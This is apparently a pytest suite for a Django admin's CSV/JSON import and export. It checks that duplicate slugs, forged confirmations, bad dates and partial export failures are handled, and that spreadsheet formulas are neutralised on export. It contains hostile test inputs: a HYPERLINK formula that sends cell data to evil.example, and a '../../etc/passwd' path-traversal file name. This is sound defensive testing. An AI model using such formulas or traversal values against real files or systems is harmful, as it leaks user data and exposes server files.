"""Imports and exports as a careless or hostile staff member uses them: one slug on two rows,
a hand-made confirmation, spreadsheet formulas, unchanged rows, a badly written date, and an
export that fails part-way. Runs on SQLite and PostgreSQL."""

import csv
import io
import json
import logging
import os

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from import_export.tmp_storages import TempFolderStorage

from faqs.models import FAQ
from initiatives.models import Initiative
from publishing.admin import imports
from tests.factories import FAQFactory, InitiativeFactory

pytestmark = pytest.mark.django_db

CSV_FORMAT, JSON_FORMAT = "0", "1"  # positions in ContentImportExportMixin.formats


def url(model, view):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{view}")


def csv_text(rows):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def dry_run(client, model, text):
    return client.post(
        url(model, "import"),
        {
            "format": CSV_FORMAT,
            "import_file": SimpleUploadedFile("file.csv", text.encode(), "text/csv"),
            "resource": "0",
        },
    )


def hand_made_confirmation(client, model, text=None, name="no-such-upload"):
    """What a person (or a script) posts to confirm an import without the dry run's form:
    a file saved where the dry run keeps uploads, or a name that is not there."""
    if text is not None:
        storage = TempFolderStorage(encoding="utf-8-sig", read_mode="r")
        storage.save(text.encode())
        name = os.path.basename(storage.name)
    data = {
        "import_file_name": name,
        "original_file_name": "file.csv",
        "format": CSV_FORMAT,
        "resource": "0",
    }
    return client.post(url(model, "process_import"), data, follow=True)


def export(client, model, fmt):
    """The export page's form with every field ticked, posted; the file's bytes."""
    page = client.get(url(model, "export"))
    data = {"format": fmt, "resource": "0"}
    data.update({name: "on" for name in page.context["form"].fields if "resource_" in name})
    response = client.post(url(model, "export"), data)
    assert response.streaming, response
    return b"".join(response.streaming_content)


def messages_of(response):
    return [str(m) for m in response.context["messages"]]


def faq_row(**fields):
    return {
        "slug": "where-is-it",
        "question": "Where is the Secretariat?",
        "answer": "In Jakarta.",
        "state": "draft",
        **fields,
    }


# --- one item on two rows ---------------------------------------------------------------


def test_a_slug_on_two_rows_is_refused_by_the_dry_run_naming_the_rows(staff_client):
    text = csv_text(
        [
            faq_row(),
            faq_row(slug="other", question="Who leads it?"),
            faq_row(answer="In Jakarta, Indonesia."),
        ]
    )
    response = dry_run(staff_client, FAQ, text)
    result = response.context["result"]
    assert result.has_validation_errors()
    invalid = {row.number: row.error_dict for row in result.invalid_rows}
    assert set(invalid) == {1, 3}
    for errors in invalid.values():
        assert "“where-is-it” is on rows 1 and 3" in " ".join(map(str, errors["slug"]))
    assert "confirm_form" not in response.context or not response.context["confirm_form"]
    assert not FAQ.objects.exists()


def test_a_hand_made_confirmation_of_a_file_with_a_repeated_slug_changes_nothing(staff_client):
    FAQFactory(slug="where-is-it", question="Where is the Secretariat?", draft=True)
    text = csv_text([faq_row(answer="First."), faq_row(answer="Second, silently winning.")])
    response = hand_made_confirmation(staff_client, FAQ, text)
    assert response.status_code == 200
    assert any("Nothing was imported: row(s) 1, 2" in m for m in messages_of(response))
    assert FAQ.objects.get(slug="where-is-it").answer not in ("First.", "Second, silently winning.")


def test_a_confirmation_naming_a_missing_file_gets_a_message(staff_client):
    for name in ("no-such-upload", "../../etc/passwd", ""):
        response = hand_made_confirmation(staff_client, FAQ, name=name)
        assert response.status_code == 200, name
        if name:
            assert any("no longer here" in m for m in messages_of(response)), name


# --- unchanged rows -------------------------------------------------------------------------


def test_unchanged_rows_are_reported_unchanged_with_no_revision_or_new_version(staff_client):
    faqs = [
        FAQFactory(slug=f"faq-{n}", question=f"Question {n}?", answer=f"Answer {n}.", draft=True)
        for n in range(4)
    ]
    before = {faq.slug: (faq.version, faq.history.count()) for faq in faqs}
    raw = export(staff_client, FAQ, CSV_FORMAT)
    text = raw.decode("utf-8-sig")
    text = text.replace("Answer 2.", "Answer two.")
    response = dry_run(staff_client, FAQ, text)
    totals = response.context["result"].totals
    assert (totals["update"], totals["skip"]) == (1, 3)
    form = response.context["confirm_form"]
    staff_client.post(url(FAQ, "process_import"), {n: form[n].value() for n in form.fields})
    for faq in FAQ.objects.all():
        version, revisions = before[faq.slug]
        if faq.slug == "faq-2":
            assert (faq.answer, faq.version, faq.history.count()) == (
                "Answer two.",
                version + 1,
                revisions + 1,
            )
        else:
            assert (faq.version, faq.history.count()) == (version, revisions), faq.slug


def test_a_row_that_changes_only_milestones_is_not_skipped(staff_client):
    initiative = InitiativeFactory(slug="grid", draft=True)
    raw = export(staff_client, Initiative, CSV_FORMAT)
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    rows[0]["milestones"] = "2030-01-01 |  | Grid live"
    response = dry_run(staff_client, Initiative, csv_text(rows))
    assert response.context["result"].totals["update"] == 1, response.context["result"].totals
    form = response.context["confirm_form"]
    staff_client.post(url(Initiative, "process_import"), {n: form[n].value() for n in form.fields})
    assert [m.title for m in initiative.milestones.all()] == ["Grid live"]


def test_a_date_that_cannot_be_read_names_the_format(staff_client):
    text = csv_text([faq_row(review_by="31/12/2027", publish_at="tomorrow")])
    result = dry_run(staff_client, FAQ, text).context["result"]
    [invalid] = result.invalid_rows
    assert "write it as YYYY-MM-DD, for example" in str(invalid.error_dict["review_by"])
    assert "write it as YYYY-MM-DD HH:MM" in str(invalid.error_dict["publish_at"])


# --- formulas in the admin's CSV --------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


def test_the_admin_csv_export_neutralises_formulas_and_imports_back_unchanged(staff_client):
    FAQFactory(slug="formula", question=FORMULA, answer="@SUM(1,2)", draft=True)
    raw = export(staff_client, FAQ, CSV_FORMAT)
    raw = raw
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(1,2)" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    response = dry_run(staff_client, FAQ, raw.decode("utf-8-sig"))
    assert response.context["result"].totals["skip"] == 1  # the same text came back
    [item] = json.loads(export(staff_client, FAQ, JSON_FORMAT))
    assert (item["question"], item["answer"]) == (FORMULA, "@SUM(1,2)")  # JSON: exact text


# --- exports stream ---------------------------------------------------------------------------


def test_the_admin_export_streams_every_row_in_chunks(staff_client, monkeypatch):
    monkeypatch.setattr(imports, "EXPORT_CHUNK", 3)
    for n in range(8):
        FAQFactory(slug=f"faq-{n}", draft=True)
    items = json.loads(export(staff_client, FAQ, JSON_FORMAT))
    assert sorted(item["slug"] for item in items) == [f"faq-{n}" for n in range(8)]


def test_the_streamed_export_is_the_librarys_export_cell_for_cell(staff_client):
    """The admin reads plain values in chunks (fast); the file must be what the library's
    own export of the same items writes."""
    from import_export.formats.base_formats import JSON

    from initiatives.resources import InitiativeResource
    from tests.factories import DivisionFactory, MemberStateFactory, MilestoneFactory, TopicFactory

    topics = [TopicFactory(name="Zinc trade"), TopicFactory(name="Air")]
    states = [MemberStateFactory(name="Viet Nam"), MemberStateFactory(name="Brunei")]
    for n in range(3):
        initiative = InitiativeFactory(
            slug=f"full-{n}",
            topics=topics[: n + 1],
            member_states=states,
            supporting_divisions=[DivisionFactory(), DivisionFactory()] if n else [],
            draft=n == 1,
        )
        MilestoneFactory(initiative=initiative, title=f"Step {n}")
    streamed = json.loads(export(staff_client, Initiative, JSON_FORMAT))
    library = json.loads(JSON().export_data(InitiativeResource().export()))
    assert sorted(streamed, key=lambda r: r["slug"]) == sorted(library, key=lambda r: r["slug"])


def test_an_admin_export_that_fails_part_way_is_logged_and_marked(
    staff_client, monkeypatch, caplog
):
    monkeypatch.setattr(imports, "EXPORT_CHUNK", 2)
    for n in range(5):
        FAQFactory(slug=f"faq-{n}", draft=True)
    from faqs.resources import FAQResource

    calls = []
    real = FAQResource.export_chunk

    def failing_on_the_second_chunk(self, ids, selected_fields=None):
        calls.append(1)
        if len(calls) > 1:
            raise ConnectionError("the database went away")
        return real(self, ids, selected_fields)

    monkeypatch.setattr(FAQResource, "export_chunk", failing_on_the_second_chunk)
    for fmt, check in ((CSV_FORMAT, "csv"), (JSON_FORMAT, "json")):
        calls.clear()
        with caplog.at_level(logging.ERROR, logger="publishing.admin.imports"):
            text = export(staff_client, FAQ, fmt).decode("utf-8-sig")
        assert "failed part-way" in caplog.text
        assert text.rstrip().endswith(imports.INCOMPLETE)
        if check == "json":
            with pytest.raises(json.JSONDecodeError):
                json.loads(text)
